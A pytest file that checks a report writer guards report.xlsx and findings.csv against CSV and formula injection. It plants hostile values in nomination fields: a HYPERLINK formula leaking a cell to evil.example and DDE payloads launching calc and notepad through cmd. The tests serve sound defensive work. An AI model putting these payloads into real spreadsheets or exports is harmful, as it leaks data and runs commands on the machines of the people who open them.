"""Issue 15, item 6: what a unit typed never becomes a formula in report.xlsx or findings.csv.

The attack is the test: the fixture batch (tests/reports_fixture.py) with formula-like text
(OWASP's CSV-injection starts ``= + - @``, tab, CR) in every place text from the online export,
the paper or the clerk can land, written by the real ``write_reports``; then report.xlsx is read
as XML (no ``<f>``, every such cell a string with exactly the text) and with openpyxl, and
findings.csv is read as the spreadsheet would (those fields start with ``'``, the rest unchanged).
"""

from __future__ import annotations

import copy
import csv
import datetime as dt
import io
import re
import zipfile
from decimal import Decimal
from pathlib import Path
from typing import Any
from xml.etree import ElementTree

import pytest
from openpyxl import Workbook, load_workbook

from checks.finding import CODES
from forms import load_template
from reports import ReportOptions, write_reports
from reports.findings_csv import csv_headers
from reports.spreadsheet import CSV_TEXT_MARK, csv_text, set_text
from reports.xlsx import FAILURES_SHEET, NOMINATIONS_SHEET, UNMATCHED_SHEET
from tests.reports_fixture import make_results

HYPERLINK = '=HYPERLINK("http://evil.example/?x="&B2,"点击查看")'
DDE = "=cmd|' /C calc'!A0"
PLUS = "+1"
MINUS = "-2+3"
AT = "@SUM(A1)"
TAB = "\t=1+2"
CR = "\r=cmd|' /C notepad'!A0"
ATTACKS = (HYPERLINK, DDE, PLUS, MINUS, AT, TAB, CR)
ERROR_LOOKALIKE = "#N/A"  # openpyxl alone writes this as an error cell

MAIN_NS = "{http://schemas.openxmlformats.org/spreadsheetml/2006/main}"


def _hostile_results(out: Path) -> dict[str, Any]:
    """The fixture batch with the attacks in every place text can reach a sheet or the CSV from."""
    results = make_results(out)
    docs = {d["id"]: d for d in results["documents"]}
    d1, d2, d4, d6 = docs["d0001"], docs["d0002"], docs["d0004"], docs["d0006"]
    d1["online"]["tech_name"] = HYPERLINK  # 推荐项, every code sheet's 技术名称, the CSV's 技术名称
    d1["online"]["applicant"] = DDE  # 推荐项 申报单位
    d1["source"]["file"] = MINUS  # 推荐项 纸质文件, the CSV's 来源文件
    d1["findings"][0]["message"] = TAB  # a code sheet's 说明, the CSV's 说明
    d1["findings"][0]["field"] = AT  # an unknown field key is shown as it is: 字段, 字段键
    d2["online"]["recommender"] = AT  # 推荐项 推荐单位, the CSV's 推荐单位
    mismatch = d2["findings"][0]
    mismatch["paper"], mismatch["online"] = PLUS, MINUS  # 纸质 / 线上 in the MISMATCH sheet and the CSV
    d2["findings"][1]["evidence"] = {"seal_text": DDE}  # evidence is JSON text: starts with "{"
    d4["seal_text"]["recommender_opinion"] = CR  # no online record: the unit is read from the seal
    d4["fields"]["tech_name"]["value"] = DDE  # no online record: the name as read on paper
    address = d6["findings"][0]
    address["paper"], address["online"] = TAB, CR  # kept as read: tab and CR in front
    d6["findings"][1]["review"]["comment"] = HYPERLINK  # the clerk's comment, inside 复核
    d6["online"]["domain"] = ERROR_LOOKALIKE
    no_paper = next(f for f in results["findings"] if f["code"] == "NO_PAPER")
    no_paper["evidence"]["tech_name"] = CR  # 无纸质表 and 推荐项
    no_paper["unit"] = PLUS
    results["failures"] = [{"file": TAB, "reason": "PDF is encrypted", "reason_zh": HYPERLINK}]
    results["batch"]["inputs_detail"].append(
        {"file": DDE, "status": "skipped", "reason": "same content", "reason_zh": MINUS, "notes": [], "notes_zh": []}
    )
    return results


@pytest.fixture(scope="module")
def hostile(tmp_path_factory: pytest.TempPathFactory) -> tuple[dict[str, Any], Any]:
    out = tmp_path_factory.mktemp("hostile") / "out"
    results = _hostile_results(out)
    paths = write_reports(copy.deepcopy(results), out, ReportOptions(batch_date=dt.date(2020, 11, 27)))
    return results, paths


def _sheet_xml(path: Path) -> dict[str, ElementTree.Element]:
    """Each worksheet's XML by sheet name."""
    with zipfile.ZipFile(path) as z:
        book = ElementTree.fromstring(z.read("xl/workbook.xml"))
        rels = ElementTree.fromstring(z.read("xl/_rels/workbook.xml.rels"))
        targets = {r.get("Id"): r.get("Target") for r in rels}
        rid = "{http://schemas.openxmlformats.org/officeDocument/2006/relationships}id"
        out = {}
        for sheet in book.iter(f"{MAIN_NS}sheet"):
            target = str(targets[sheet.get(rid)]).lstrip("/")
            target = target if target.startswith("xl/") else f"xl/{target}"
            out[str(sheet.get("name"))] = ElementTree.fromstring(z.read(target))
    return out


def _xml_texts(sheet: ElementTree.Element) -> list[str]:
    """The text of every string cell of a sheet, as a spreadsheet reads it."""
    texts = []
    for c in sheet.iter(f"{MAIN_NS}c"):
        if c.get("t") == "inlineStr":
            texts.append("".join(t.text or "" for t in c.iter(f"{MAIN_NS}t")))
    return texts


def test_no_cell_of_report_xlsx_is_a_formula_and_each_keeps_its_text(hostile: tuple[dict[str, Any], Any]) -> None:
    _, paths = hostile
    sheets = _sheet_xml(paths.xlsx)
    for name, sheet in sheets.items():
        assert list(sheet.iter(f"{MAIN_NS}f")) == [], f"a formula in sheet {name}"
        types = {c.get("t") for c in sheet.iter(f"{MAIN_NS}c")}
        assert types <= {"inlineStr", "s", "n", "b", None}, f"sheet {name}: cell types {types}"  # no "e", no "str"
    nominations = _xml_texts(sheets[NOMINATIONS_SHEET])
    # names and units are shown trimmed (reports.model.show), so CR's formula is at the very start here
    for value in (HYPERLINK, DDE, MINUS, AT, CR.strip(), ERROR_LOOKALIKE):
        assert value in nominations  # exactly the text, not a formula and not an apostrophe in front
    mismatch = _xml_texts(sheets[CODES["MISMATCH"]])
    assert {PLUS, MINUS, TAB, CR} <= set(mismatch)  # paper and online as read
    assert '{"seal_text": "' + DDE + '"}' in mismatch  # the evidence's JSON, the text inside unchanged
    seal = _xml_texts(sheets[CODES["SEAL_MISSING"]])
    assert {TAB.strip(), AT, HYPERLINK} <= set(seal)  # 说明 (trimmed), an unknown field key, 技术名称
    assert CR.strip() in _xml_texts(sheets[UNMATCHED_SHEET])
    failures = _xml_texts(sheets[FAILURES_SHEET])
    assert {TAB.strip(), HYPERLINK, DDE, MINUS} <= set(failures)  # file (trimmed), reasons, skipped file
    assert any(HYPERLINK in t and t.startswith("已排除") for t in _xml_texts(sheets[CODES["FIELD_EMPTY"]]))


def test_openpyxl_reads_back_the_text_as_strings_kept_as_text(hostile: tuple[dict[str, Any], Any]) -> None:
    _, paths = hostile
    wb = load_workbook(paths.xlsx)
    seen: set[str] = set()
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                if isinstance(cell.value, str) and cell.value.startswith(("=", "+", "-", "@", "\t", "\r")):
                    assert cell.data_type == "s", (ws.title, cell.coordinate, cell.value)
                    assert cell.quotePrefix, (ws.title, cell.coordinate)  # Excel keeps it text when edited
                    seen.add(cell.value)
                if cell.value == ERROR_LOOKALIKE:
                    assert cell.data_type == "s"
    assert set(ATTACKS) <= seen
    ws = wb[NOMINATIONS_SHEET]
    header = [c.value for c in ws[1]]
    d1 = next(r for r in ws.iter_rows(min_row=2) if r[header.index("文档")].value == "d0001")
    assert d1[header.index("技术名称")].value == HYPERLINK
    assert d1[header.index("申报单位")].value == DDE
    assert d1[header.index("纸质文件")].value == MINUS
    assert isinstance(d1[header.index("匹配度")].value, float)  # numbers stay numbers
    assert isinstance(d1[header.index("问题数")].value, int)
    assert not d1[header.index("问题数")].quotePrefix


def _csv_rows(path: Path) -> list[dict[str, str]]:
    text = path.read_bytes().decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text, newline="")))
    assert tuple(rows[0]) == csv_headers(load_template()) and rows[0][2] == "技术名称"  # kczg-2020's title label
    return [dict(zip(rows[0], r, strict=True)) for r in rows[1:]]


def test_findings_csv_fields_that_start_a_formula_start_with_an_apostrophe(
    hostile: tuple[dict[str, Any], Any],
) -> None:
    _, paths = hostile
    rows = _csv_rows(paths.csv)
    for row in rows:
        for header, value in row.items():
            assert not value.startswith(("=", "+", "-", "@", "\t", "\r")), (header, value)
    by_code = {}
    for row in rows:
        by_code.setdefault(row["代码"], []).append(row)
    seal = by_code["SEAL_MISSING"][0]
    assert seal["技术名称"] == CSV_TEXT_MARK + HYPERLINK
    assert seal["来源文件"] == CSV_TEXT_MARK + MINUS
    assert seal["说明"] == CSV_TEXT_MARK + TAB
    assert seal["字段键"] == CSV_TEXT_MARK + AT and seal["字段"] == CSV_TEXT_MARK + AT
    phone = next(r for r in by_code["MISMATCH"] if r["文档"] == "d0002" and r["纸质"].endswith(PLUS))
    assert (phone["纸质"], phone["线上"]) == (CSV_TEXT_MARK + PLUS, CSV_TEXT_MARK + MINUS)
    assert phone["推荐单位"] == CSV_TEXT_MARK + AT
    no_paper = by_code["NO_PAPER"][0]
    assert no_paper["技术名称"] == CSV_TEXT_MARK + CR.strip()  # the nomination's name, trimmed
    assert no_paper["推荐单位"] == CSV_TEXT_MARK + PLUS
    # everything else is exactly what it was
    assert phone["置信度"] == "0.96" and phone["页"] == "4" and phone["编号"] == "KC2020-0002"
    contact = next(r for r in by_code["MISMATCH"] if r["字段键"] == "contact")
    assert contact["证据"] == '{"seal_text": "' + DDE + '"}'  # JSON: starts with "{", unchanged
    address = next(r for r in by_code["MISMATCH"] if r["字段键"] == "address")
    assert (address["纸质"], address["线上"]) == (CSV_TEXT_MARK + TAB, CSV_TEXT_MARK + CR)
    dismissed = by_code["FIELD_EMPTY"][0]
    assert dismissed["复核"] == f"已排除（王芳：{HYPERLINK}）"  # not at the start: nothing added


def test_a_clean_batch_writes_the_same_csv_as_before(tmp_path: Path) -> None:
    """No field of the ordinary fixture starts with a formula character: the CSV is unchanged by the guard."""
    paths = write_reports(make_results(tmp_path / "out"), tmp_path / "out")
    rows = _csv_rows(paths.csv)
    assert not any(v.startswith(CSV_TEXT_MARK) for r in rows for v in r.values())
    assert {r["纸质"] for r in rows if r["字段键"] == "phone"} == {"010-68519999"}
    address = next(r for r in rows if r["字段键"] == "address")
    assert (address["纸质"], address["线上"]) == ("北京市海淀区学院路30号北京科技大字", "北京市海淀区学院路30号北京科技大学")


# -- the helpers on their own ------------------------------------------------------------------


@pytest.mark.parametrize("attack", [*ATTACKS, "=1+2", "-", "@", "+"])
def test_csv_text_marks_every_formula_start(attack: str) -> None:
    assert csv_text(attack) == CSV_TEXT_MARK + attack


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        (None, ""),
        ("技术名称", "技术名称"),
        ("010-68512345", "010-68512345"),
        (" =1+2", " =1+2"),  # a leading space is text to every spreadsheet
        ("'already", "'already"),
        ("#N/A", "#N/A"),
        (-3, "-3"),  # a number is a number: -3, never a formula
        (0.5, "0.5"),
        (Decimal("-1.25"), "-1.25"),
        ("-3", "'-3"),  # the same characters as text from the export are guarded
        (True, "True"),
        (["=x"], "['=x']"),
    ],
)
def test_csv_text_leaves_the_rest_alone(value: object, expected: str) -> None:
    assert csv_text(value) == expected


def test_set_text_stores_strings_as_strings_and_keeps_numbers_and_dates_typed(tmp_path: Path) -> None:
    wb = Workbook()
    ws = wb.active
    assert ws is not None
    values: list[object] = [
        *ATTACKS,
        ERROR_LOOKALIKE,
        "普通文字",
        -3,
        0.97,
        Decimal("2.5"),
        dt.date(2020, 11, 20),
        dt.datetime(2020, 11, 20, 9, 30, tzinfo=dt.UTC),
        float("nan"),
        "第一行\x0b第二行\x01",
        None,
    ]
    for row, value in enumerate(values, start=1):
        set_text(ws.cell(row=row, column=1), value)
    path = tmp_path / "t.xlsx"
    wb.save(path)
    with zipfile.ZipFile(path) as z:
        xml = z.read("xl/worksheets/sheet1.xml").decode("utf-8")
    assert "<f>" not in xml and 't="e"' not in xml
    back = [c.value for c in load_workbook(path).active["A"]]  # type: ignore[index]
    n = len(ATTACKS)
    assert back[:n] == list(ATTACKS)
    assert back[n : n + 2] == [ERROR_LOOKALIKE, "普通文字"]
    assert back[n + 2 : n + 5] == [-3, 0.97, 2.5]
    assert back[n + 5] == dt.datetime(2020, 11, 20)  # a date cell (openpyxl reads dates back as datetimes)
    assert back[n + 6] == "2020-11-20T09:30:00+00:00"  # Excel has no time zones: kept as text
    assert back[n + 7] == "nan"
    assert back[n + 8] == "第一行\n第二行"  # XML cannot hold \x0b or \x01; the workbook is still written
    assert len(back) == n + 9 or back[n + 9] is None
    cells = load_workbook(path).active
    assert cells is not None
    assert [cells.cell(row=i + 1, column=1).quotePrefix for i in range(n + 2)] == [True] * n + [False, False]
    assert re.search(r'quotePrefix="1"', zipfile.ZipFile(path).read("xl/styles.xml").decode("utf-8"))
